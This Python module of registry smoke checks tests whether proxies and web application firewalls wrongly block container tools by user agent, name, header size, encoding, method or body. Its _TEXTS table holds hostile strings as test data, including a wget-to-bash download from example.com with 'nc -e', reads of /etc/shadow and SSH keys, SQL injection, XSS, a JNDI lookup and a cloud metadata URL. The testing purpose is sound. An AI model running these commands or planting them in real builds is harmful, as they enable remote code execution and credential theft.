"""Checks of filters in front of the registry: on clients, methods, names, headers, encodings, and bodies."""

from __future__ import annotations

from typing import Final
from urllib.parse import urlencode

from registry_gitops.smoke.check import Check, check
from registry_gitops.smoke.client import Headers, NoResponseError, RegistryResponse
from registry_gitops.smoke.context import Context
from registry_gitops.smoke.diagnosis import expect_status, is_page, parse_error_codes, parse_errors
from registry_gitops.smoke.exceptions import CheckFailed
from registry_gitops.smoke.images import ACCEPT_ALL, LocalBlob
from registry_gitops.smoke.levels import Level
from registry_gitops.smoke.remedies import ENCODED, FILTERED, LONG_HEADERS, STORAGE_NOT_SHARED, TOO_LARGE
from registry_gitops.smoke.repository import OCTETS, Upload, expect_same_bytes

_DOCKER: Final = (
    "docker/28.3.0 go/go1.24.4 git-commit/265f709 kernel/6.8.0 os/linux arch/amd64 "
    r"UpstreamClient(Docker-Client/28.3.0 \(linux\))"
)
_KANIKO: Final = "kaniko/v1.24.0 go-containerregistry/v0.20.6"
_PODMAN: Final = "libpod/5.5.2"
_BUILDKIT: Final = "buildkit/v0.23"
_COSIGN: Final = "cosign/v2.5.2 (linux; amd64) go-containerregistry/v0.20.6"
_ORAS: Final = "oras/1.2.3"
_HELM: Final = "Helm/3.18.3"
_REGCTL: Final = "regclient/regctl (v0.9.0)"
_THAT_PING: Final = (
    _DOCKER,
    _PODMAN,
    "containers/5.35.0 (github.com/containers/image)",
    "Buildah/1.40.1",
    "skopeo/1.19.0",
    "containers/5.36.1 (github.com/containers/image)",
    "cri-o/1.33.1 go/go1.24.3 os/linux arch/amd64",
    "cri-o/1.27.8-2.rhaos4.14.gitbfac241.el9 go/go1.20.12 os/linux arch/amd64",
    "crane/v0.20.6 go-containerregistry/v0.20.6",
    _KANIKO,
    _COSIGN,
    "flux/v2",
    "trivy/0.63.0",
    "RenovateBot/41.7.2 (https://github.com/renovatebot/renovate)",
    "jib 3.4.5 jib-maven-plugin Google-HTTP-Java-Client/1.43.3 (gzip)",
    "Go-http-client/1.1",
)
"""User agents of tools that request /v2/ first."""
_THAT_RESOLVE: Final = ("containerd/v2.1.3", _BUILDKIT, _ORAS, _HELM, _REGCTL)
"""User agents of tools that request a manifest first, by HEAD."""
_THAT_PUSH: Final = (_DOCKER, _BUILDKIT, _PODMAN, _KANIKO, _COSIGN, _ORAS, _HELM, _REGCTL)
"""User agents of tools that push."""

_NAMES: Final = (
    ("admin/api/login", "latest"),
    ("shop.git", "1.0.env"),
    ("wp-admin/index.php", "index.php"),
    ("backup.sql", "1.0.bak"),
    ("cgi-bin/setup.exe", "web.config"),
    ("etc/passwd", "1.0..2"),
    ("test/a__b", "_1.0.zip"),
    ("a/b/c/d/e/f/g/h", f"v{'1' * 127}"),
)
"""Valid names of repositories, and tags, that look like what filters protect."""

_TOKEN_SIZE: Final = 7000
"""Bytes. Tokens of cloud providers have up to 5000. By default, nginx allows 8 KB."""
_QUERY_SIZE: Final = 2000
"""Bytes. The URL of an upload has its state in the query."""

_METHOD_REFUSED: Final = (403, 405, 406, 501)

_TEXTS: Final = {
    "shell commands": "RUN /bin/sh -c apt-get update && apt-get install -y curl > /dev/null; rm -rf /var/lib/apt/* "
    "&& wget -qO- https://example.com/install.sh | bash -c 'base64 -d > /run.sh; chmod +x /run.sh; nc -e /run.sh'",
    "programs": "RUN python -c 'eval(input())' && perl -e 'system(1)' && node -e 'require(`child_process`).exec()'",
    "system files": "RUN ls /var/log && cat ../../../../etc/passwd /etc/shadow ~/.ssh/authorized_keys "
    "/proc/self/environ .env ./",
    "SQL": 'RUN psql -c "SELECT name FROM users WHERE id = 1 OR 1=1 UNION SELECT 2; DROP TABLE users; --\' --"',
    "HTML": "RUN echo '<html><script>alert(document.cookie)</script><iframe src=javascript:a><img src=x onerror=a>'",
    "PHP": "RUN echo '<?php phpinfo(); ?>' > index.php",
    "passwords": "ENV MYSQL_USER=root PASSWORD=changeme URL=mysql://root:changeme@db/ CERTIFICATE=-----BEGIN",
    "addresses": "HEALTHCHECK CMD curl -f http://localhost:8080/ http://127.0.0.1/ "
    "http://169.254.169.254/latest/meta-data/",
    "lookups": "ENV PATTERN=${jndi:ldap://example.com/a}",
    "PowerShell": "RUN cmd.exe /S /C powershell -NoProfile -ExecutionPolicy Bypass -Command Invoke-WebRequest a.exe",
}
"""What usual Dockerfiles contain, and rules against attacks look for."""
_STEPS: Final = [f"COPY part-{number} /srv/application/part-{number}" for number in range(150)]
"""Make the manifest and the config longer than forms of web pages."""
_PROGRAM: Final = b"\x7fELF\x02\x01\x01\0MZ\x90\0PK\x03\x04\n#!/bin/sh\n"
"""The beginnings of programs and archives, for which filters look in uploads."""


@check("filter-agents", level=Level.READ, spec="pitfall: filters on User-Agent", remedy=FILTERED)
def filter_agents(context: Context) -> None:
    """Container tools are let in, whatever their User-Agent.

    Filters against bots often refuse programs that are not browsers.
    """
    missing = context.repository.path(f"manifests/none-{context.run_id}")
    for method, path, agents, accept in (
        ("GET", "/v2/", _THAT_PING, {"Accept": None}),
        ("HEAD", missing, _THAT_RESOLVE, {"Accept": ACCEPT_ALL}),
    ):
        usual = _request(context, method, path, "no credentials", {"Accept": ACCEPT_ALL})
        for agent in agents:
            what = f"User-Agent {_program(agent)}{'' if accept['Accept'] else ' and no Accept'}"
            _expect_like(usual, _request(context, method, path, what, {**accept, "User-Agent": agent}), what)


@check("filter-agents-push", spec="pitfall: filters on User-Agent", remedy=FILTERED)
def filter_agents_push(context: Context) -> None:
    """Container tools can push, whatever their User-Agent.

    A filter can let them pull, and refuse their pushes.
    """
    image = context.make_variant()
    context.repository.push_record.add_manifest(context.repository.name, image.digest)
    path = context.repository.path(f"manifests/{image.digest}")
    for agent in _THAT_PUSH:
        headers = {"Content-Type": image.media_type, "User-Agent": agent}
        what = f"PUT of a manifest with User-Agent {_program(agent)}"
        try:
            response = context.client.request("PUT", path, image.content, headers)
        except NoResponseError as problem:
            raise CheckFailed(f"{what}: {problem.reason}") from None
        _expect_pushed_again(response, what)


@check("filter-names", level=Level.READ, spec="distribution-spec, Pulling Manifests: names and tags", remedy=FILTERED)
def filter_names(context: Context) -> None:
    """Requests reach the registry, whatever the names of repositories and tags.

    Filters refuse paths that look like index.php or .git, and long ones, and a route can expect a slash in each name.
    All of these names are valid.
    """
    base = _missing_repository(context)
    headers = {"Accept": ACCEPT_ALL}
    usual = _request(context, "GET", f"{base}/manifests/latest", "no credentials", headers)
    names = {name: (f"{base}/{name}", tag) for name, tag in _NAMES}
    names["without a slash"] = (f"/v2/none-{context.run_id}", "latest")
    for name, (path, tag) in names.items():
        what = f"the name {name} and the tag {tag[:20]}"
        response = _request(context, "GET", f"{path}/manifests/{tag}", what, headers)
        # A registry can allow fewer levels of names, and says so in its own way.
        if response.status not in (400, 401, 404) or not parse_errors(response):
            _expect_like(usual, response, what)


@check("filter-tags", spec="distribution-spec, Pulling Manifests: tags", remedy=FILTERED)
def filter_tags(context: Context) -> None:
    """A tag keeps its capital letters, and its dots, dashes, and underscores.

    A proxy that writes URLs in lower case sends clients to another tag.
    """
    tag = context.make_tag("V1.0-RC_2")
    _expect_pushed_again(context.repository.put_manifest(context.make_variant(), tag), f"PUT of the tag {tag}")
    expect_status(context.repository.request_manifest(tag), 200)
    if context.repository.request_manifest(tag.lower()).status == 200:
        raise CheckFailed(f"GET of the tag {tag.lower()} returned 200, but {tag} was pushed")


@check("filter-headers", level=Level.READ, spec="pitfall: proxies limit headers and URLs", remedy=LONG_HEADERS)
def filter_headers(context: Context) -> None:
    """Requests with long headers and URLs reach the registry.

    Tokens have some kilobytes, and the URL of an upload has its whole state.
    """
    path = f"{_missing_repository(context)}/manifests/latest"
    for what, long_path, headers, usual_headers in (
        (f"an Authorization of {_TOKEN_SIZE} bytes", path, _bearer("n" * _TOKEN_SIZE), _bearer("none")),
        (f"a query of {_QUERY_SIZE} bytes", f"{path}?_state={'n' * _QUERY_SIZE}", {}, {}),
    ):
        usual = _request(context, "GET", path, "a short one", usual_headers)
        _expect_like(usual, _request(context, "GET", long_path, what, headers), what)


@check("filter-encodings", spec="RFC 3986, Percent-Encoding; RFC 9110, Expect", remedy=ENCODED)
def filter_encodings(context: Context) -> None:
    """A blob can be pushed with an encoded digest, as Go programs send it.

    They write sha256%3A for sha256: and %2F for the slash in the name of the repository to mount from. Other programs
    announce a body with Expect: 100-continue.
    """
    there, blob = context.pushed_blob(), context.make_blob()
    query = urlencode({"mount": there.digest, "from": context.repository.name})
    mounted = context.repository.request("POST", f"blobs/uploads/?{query}")
    if mounted.status == 202:
        Upload.from_response(context.repository, mounted).cancel()
    elif mounted.status != 201:
        raise CheckFailed(f"POST of an upload with the query {query} returned {mounted.status}, expected 201 or 202")
    _, tag = context.pushed_image()
    expect_status(context.repository.request_manifest(f"{tag}?ns=docker.io%2Flibrary"), 200)
    what = "PUT of a blob with digest=sha256%3A... and Expect: 100-continue"
    try:
        headers = {**OCTETS, "Expect": "100-continue"}
        response = context.repository.start_upload().put(blob.digest, blob.content, headers, encodes=True)
    except NoResponseError as problem:
        raise CheckFailed(f"{what}: {problem.reason}") from None
    if response.status != 201:
        # Fails by itself if this is not the reason.
        context.repository.push_blob(blob)
        raise CheckFailed(f"{what} returned {response.status}, expected 201")
    expect_same_bytes(expect_status(context.repository.request_blob(blob.digest), 200), blob)


@check("filter-methods", spec="distribution-spec, Endpoints", remedy=FILTERED)
def filter_methods(context: Context) -> None:
    """No proxy refuses a method that clients use.

    Web pages need GET and POST only. Docker pushes with PATCH, and DELETE cancels uploads and deletes images.
    """
    _, tag = context.pushed_image()
    image = context.make_variant()
    upload = context.repository.start_upload()
    responses = (
        context.repository.request_manifest(tag, method="HEAD"),
        context.repository.put_manifest(image, image.digest),
        upload.send(context.make_blob(size=upload.chunk_size).content),
        upload.cancel(),
    )
    refused = [each for each in responses if each.status in _METHOD_REFUSED and each.method != "DELETE"]
    # Registries are allowed to refuse a DELETE, but they do not say so by a page for people.
    refused += [each for each in (responses[-1], context.deletion_response()) if is_page(each)]
    if refused:
        methods = dict.fromkeys(f"{each.method} ({each.status})" for each in refused)
        raise CheckFailed(f"refused: {', '.join(methods)}")


@check("filter-bodies", spec="pitfall: web application firewalls", remedy=FILTERED)
def filter_bodies(context: Context) -> None:
    """An image can be pushed and pulled whatever it contains: shell commands, SQL, HTML.

    The config of an image has the commands of its Dockerfile. To a web application firewall, they look like attacks.
    """
    image = context.images.make_built_image(context.check_id, [*_TEXTS.values(), *_STEPS], _PROGRAM)
    config, layer = image.blobs
    try:
        # As Docker pushes, and as others do: filters look at some methods only.
        upload = context.repository.start_upload()
        if len(config.content) < upload.chunk_size:
            upload.finish(config, config.content)
        else:
            expect_status(upload.send(config.content), 202)
            upload.finish(config)
        context.repository.push_blob(layer)
        expect_status(context.repository.put_manifest(image, image.digest), 201)
        context.repository.expect_stored(image)
    except (CheckFailed, NoResponseError) as failure:
        if isinstance(failure, CheckFailed) and failure.remedy == TOO_LARGE:
            raise
        refused = [kind for kind, text in _TEXTS.items() if _is_refused(context, text)]
        raise CheckFailed(f"{failure}{': it contains ' if refused else ''}{', '.join(refused)}") from None


def _is_refused(context: Context, text: str) -> bool:
    blob = LocalBlob(text.encode())
    try:
        return context.repository.start_upload().put(blob.digest, blob.content).status != 201
    except NoResponseError:
        return True


def _expect_pushed_again(response: RegistryResponse, what: str) -> None:
    """Return if the registry accepted a manifest that it has already. Raises CheckFailed."""
    if "MANIFEST_BLOB_UNKNOWN" in parse_error_codes(response):
        raise CheckFailed(f"{what} returned {response.status}, but its blobs were pushed", STORAGE_NOT_SHARED)
    if response.status != 201:
        raise CheckFailed(f"{what} returned {response.status}, expected 201")


def _program(agent: str) -> str:
    return agent.partition(" ")[0]


def _missing_repository(context: Context) -> str:
    return f"/v2/{context.options.repository}-none-{context.run_id}"


def _bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def _request(context: Context, method: str, path: str, what: str, headers: Headers = None) -> RegistryResponse:
    """Send a request without credentials, which costs the registry little. Raises CheckFailed.

    It fails if the registry closes the connection, but not for a request without `what`.
    """
    try:
        return context.client.request(method, path, headers=headers, authenticator=context.anonymous)
    except NoResponseError as problem:
        context.client.request("GET", "/v2/")
        raise CheckFailed(f"{method} with {what}: {problem.reason}") from None


def _expect_like(usual: RegistryResponse, response: RegistryResponse, what: str) -> None:
    """Return if the registry sent the response, as it sent the usual one. Raises CheckFailed."""
    if response.status != usual.status:
        # Some status codes tell their cause, whatever the check is about.
        remedy = LONG_HEADERS if response.status in (414, 431, 494) else ""
        found = f"{response.method} with {what} returned {response.status}, and {usual.status} without it"
        raise CheckFailed(found, remedy)
    if is_page(response) and not is_page(usual):
        raise CheckFailed(f"{response.method} with {what} returned a page for people")


CHECKS: tuple[Check, ...] = (
    filter_agents,
    filter_agents_push,
    filter_names,
    filter_tags,
    filter_headers,
    filter_encodings,
    filter_methods,
    filter_bodies,
)
